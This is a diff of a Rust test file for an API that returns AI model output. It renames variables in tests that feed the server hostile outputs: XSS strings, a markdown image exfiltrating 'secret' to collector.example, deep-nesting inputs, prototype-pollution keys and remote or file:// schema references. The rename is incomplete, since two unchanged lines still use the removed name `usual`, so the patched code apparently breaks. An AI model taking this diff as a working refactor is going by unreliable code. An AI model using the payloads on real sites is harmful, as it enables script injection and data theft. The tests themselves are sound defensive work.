@@ -20,7 +20,7 @@ const TIME_LIMIT: Duration = Duration::from_secs(10);
 
 /// Model outputs that attack consumers that interpret them, such as browsers and shells.
 fn hostile_outputs() -> Vec<String> {
-    let mut all: Vec<String> = [
+    let mut texts: Vec<String> = [
         "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>",
         "[click](javascript:alert(1)) ![x](https://collector.example/?q=secret) <a href=\"data:text/html,x\">x</a>",
         "<math><mtext></p><style><!--</style><img src=\"--></style><img src=x onerror=alert(1)>\">",
@@ -33,11 +33,11 @@ fn hostile_outputs() -> Vec<String> {
     ]
     .map(str::to_owned)
     .into();
-    all.push("[".repeat(100_000));
-    all.push("{\"a\":".repeat(100_000));
-    all.push((0..100_000).map(|depth| if depth % 2 == 0 { "- " } else { "> " }).collect());
-    all.push("<div>".repeat(100_000));
-    all
+    texts.push("[".repeat(100_000));
+    texts.push("{\"a\":".repeat(100_000));
+    texts.push((0..100_000).map(|depth| if depth % 2 == 0 { "- " } else { "> " }).collect());
+    texts.push("<div>".repeat(100_000));
+    texts
 }
 
 async fn start_app(obligations: &[&str]) -> (TestApp, ActiveWorkload, Arc<StubProvider>) {
@@ -66,20 +66,20 @@ fn assert_inert_json(response: &Response) {
 async fn model_output_is_returned_unchanged() {
     let (app, workload, provider) = start_app(&[]).await;
     for output in hostile_outputs() {
-        let what: String = output.chars().take(40).collect();
+        let label: String = output.chars().take(40).collect();
         provider.set_behaviour(ProviderBehaviour::Answers(output.clone()));
         let started_at = Instant::now();
         let response = run(&app, &workload).await;
-        assert!(started_at.elapsed() < TIME_LIMIT, "{what}: {:?}", started_at.elapsed());
+        assert!(started_at.elapsed() < TIME_LIMIT, "{label}: {:?}", started_at.elapsed());
         assert_inert_json(&response);
         let body = response.expect(200);
-        assert_eq!((&body["status"], &body["error"]), (&json!("completed"), &Value::Null), "{what}");
-        assert!(body["output"] == output.as_str(), "{what}: the output was changed");
+        assert_eq!((&body["status"], &body["error"]), (&json!("completed"), &Value::Null), "{label}");
+        assert!(body["output"] == output.as_str(), "{label}: the output was changed");
         let id = &body["execution_id"];
         let path = format!("/v1/executions/{}", id.as_str().unwrap());
-        let read = app.get(&path).await;
-        assert_inert_json(&read);
-        assert!(read.expect(200)["queued_result"]["result"] == output.as_str(), "{what}");
+        let execution = app.get(&path).await;
+        assert_inert_json(&execution);
+        assert!(execution.expect(200)["queued_result"]["result"] == output.as_str(), "{label}");
         let evidence = app.get(format!("{path}/evidence-graph")).await;
         assert_inert_json(&evidence);
         assert_eq!(evidence.expect(200)["execution"]["status"], "completed");
@@ -88,15 +88,15 @@ async fn model_output_is_returned_unchanged() {
         let stream = run(&app, &workload).header("accept", "text/event-stream").await;
         assert_eq!(stream.header("x-content-type-options"), Some("nosniff"));
         let stream = parse_event_stream(&stream);
-        let ends =
+        let end_events =
             stream.iter().filter(|event| event.kind.starts_with("execution.") && event.kind != "execution.started");
-        let ends: Vec<&str> = ends.map(|event| event.kind.as_str()).collect();
-        assert_eq!(ends, ["execution.completed"], "{what}");
+        let end_events: Vec<&str> = end_events.map(|event| event.kind.as_str()).collect();
+        assert_eq!(end_events, ["execution.completed"], "{label}");
         let deltas = stream.iter().filter(|event| event.kind == "output.delta");
         let deltas: String = deltas.map(|event| event.data["delta"].as_str().unwrap()).collect();
-        assert!(deltas == output, "{what}: the streamed output was changed");
+        assert!(deltas == output, "{label}: the streamed output was changed");
         let id = async_run(&app, &workload).await.expect(202)["execution_id"].clone();
-        assert!(wait_until_ended(&app, &id).await["queued_result"]["result"] == output.as_str(), "{what}, queued");
+        assert!(wait_until_ended(&app, &id).await["queued_result"]["result"] == output.as_str(), "{label}, queued");
     }
 }
 
@@ -104,15 +104,15 @@ async fn model_output_is_returned_unchanged() {
 async fn hostile_model_output_is_redacted_as_text() {
     let (app, workload, provider) = start_app(&["redact_output"]).await;
     for output in hostile_outputs() {
-        let what: String = output.chars().take(40).collect();
+        let label: String = output.chars().take(40).collect();
         let personal = |mail: &str| format!("{output} {mail} <a href=\"mailto:{mail}\">");
         provider.set_behaviour(ProviderBehaviour::Answers(personal("ada@example.org")));
         let started_at = Instant::now();
         let body = run(&app, &workload).await.expect(200);
-        assert!(started_at.elapsed() < TIME_LIMIT, "{what}: {:?}", started_at.elapsed());
-        assert_eq!(body["status"], "completed", "{what}");
+        assert!(started_at.elapsed() < TIME_LIMIT, "{label}: {:?}", started_at.elapsed());
+        assert_eq!(body["status"], "completed", "{label}");
         let masked = body["output"].as_str().unwrap();
-        assert!(!masked.contains("ada@example.org") && masked.starts_with(&what), "{what}: {:.200}", masked);
+        assert!(!masked.contains("ada@example.org") && masked.starts_with(&label), "{label}: {:.200}", masked);
     }
 }
 
@@ -131,14 +131,15 @@ async fn hostile_provider_responses_are_rejected_within_bounds() {
         fixtures.policy("policy").await,
     ];
     let workload = fixtures.active_workload_with_bindings("main", versions).await;
-    let usual = r#""choices":[{"index":0,"message":{"role":"assistant","content":"fine"},"finish_reason":"stop"}]"#;
+    let usual_choices =
+        r#""choices":[{"index":0,"message":{"role":"assistant","content":"fine"},"finish_reason":"stop"}]"#;
     let nested = |open: &str, close: &str| open.repeat(100_000) + &close.repeat(100_000);
-    for (what, body, output) in [
+    for (description, body, output) in [
         ("lists", nested("[", "]"), Value::Null),
         ("objects", nested("{\"choices\":", "}"), Value::Null),
         ("lists beside the answer", format!("{{{usual},\"x\":{}}}", nested("[", "]")), json!("fine")),
-        ("a surrogate", format!("{{{}}}", usual.replace("fine", "\\ud800")), Value::Null),
-        ("too much", format!("{{{}}}", usual.replace("fine", &"x".repeat(40 << 20))), Value::Null),
+        ("a surrogate", format!("{{{}}}", usual_choices.replace("fine", "\\ud800")), Value::Null),
+        ("too much", format!("{{{}}}", usual_choices.replace("fine", &"x".repeat(40 << 20))), Value::Null),
         (
             "names of prototypes",
             format!("{{{usual},\"__proto__\":{{\"choices\":[]}},\"constructor\":1}}"),
@@ -149,10 +150,10 @@ async fn hostile_provider_responses_are_rejected_within_bounds() {
         endpoint.respond_with(ScriptedResponse::status(200, &body));
         let started_at = Instant::now();
         let run_result = run(&app, &workload).await.expect(200);
-        assert!(started_at.elapsed() < TIME_LIMIT, "{what}: {:?}", started_at.elapsed());
-        assert_eq!(run_result["output"], output, "{what}: {run_result}");
+        assert!(started_at.elapsed() < TIME_LIMIT, "{description}: {:?}", started_at.elapsed());
+        assert_eq!(run_result["output"], output, "{description}: {run_result}");
         if output.is_null() {
-            assert_eq!(run_result["error"]["code"], "provider_malformed_answer", "{what}: {run_result}");
+            assert_eq!(run_result["error"]["code"], "provider_malformed_answer", "{description}: {run_result}");
         }
     }
 }
@@ -168,15 +169,19 @@ async fn schema_references_are_never_fetched() {
     let binding = json!({ "kind": "x", "ref": "y" });
     let targets = [endpoint.url("/schema.json"), format!("file://{}", file.display()), "other.json".to_owned()];
     for (target_index, target) in targets.iter().enumerate() {
-        let refused = [
+        let refused_schemas = [
             json!({ "$ref": target }),
             json!({ "properties": { "a": { "$dynamicRef": target } } }),
             json!({ "$id": "http://example.org/", "allOf": [{ "$ref": target }] }),
             json!({ "$ref": "#/$defs/a", "$defs": { "a": { "$ref": target } } }),
         ];
         // `$schema` and `$id` are only identifiers, so the server does not fetch them.
-        let names = [json!({ "$schema": target, "type": "object" }), json!({ "$id": target, "type": "object" })];
-        let schemas = refused.iter().map(|schema| (schema, true)).chain(names.iter().map(|schema| (schema, false)));
+        let accepted_schemas =
+            [json!({ "$schema": target, "type": "object" }), json!({ "$id": target, "type": "object" })];
+        let schemas = refused_schemas
+            .iter()
+            .map(|schema| (schema, true))
+            .chain(accepted_schemas.iter().map(|schema| (schema, false)));
         for (number, (schema, is_refused)) in schemas.enumerate() {
             for (kind, content) in [
                 ("tool_definition", json!({ "name": "t", "input_schema": schema, "binding": binding })),
@@ -217,18 +222,18 @@ async fn deeply_nested_results_are_readable() {
         fixtures.flow("flow", &flow).await,
     ];
     let workload = fixtures.active_workload_with_bindings("main", versions).await;
-    let deep = |depth: usize| (0..depth).fold(json!(1), |inner, _| json!([inner]));
+    let nested_value = |depth: usize| (0..depth).fold(json!(1), |inner, _| json!([inner]));
     for depth in [1, 20, 40, 58] {
-        let body = json!({ "environment": "dev", "inputs": { "ticket": deep(depth) } });
+        let body = json!({ "environment": "dev", "inputs": { "ticket": nested_value(depth) } });
         let response = app.post(workload.execute_path(), body).await;
         let run_result = response.expect(200);
         let path = format!("/v1/executions/{}", run_result["execution_id"].as_str().unwrap());
-        let read = app.get(&path).await.expect(200);
-        assert_eq!(read["status"], run_result["status"], "{depth}");
+        let execution = app.get(&path).await.expect(200);
+        assert_eq!(execution["status"], run_result["status"], "{depth}");
         app.get(format!("{path}/evidence-graph")).await.expect(200);
         if run_result["status"] == "completed" {
-            assert_eq!(run_result["output"], (0..48).fold(deep(depth), |inner, _| json!([inner])), "{depth}");
-            assert_eq!(read["queued_result"]["result"], run_result["output"], "{depth}");
+            assert_eq!(run_result["output"], (0..48).fold(nested_value(depth), |inner, _| json!([inner])), "{depth}");
+            assert_eq!(execution["queued_result"]["result"], run_result["output"], "{depth}");
         } else {
             assert!(run_result["error"]["code"].is_string(), "{depth}: {run_result}");
         }
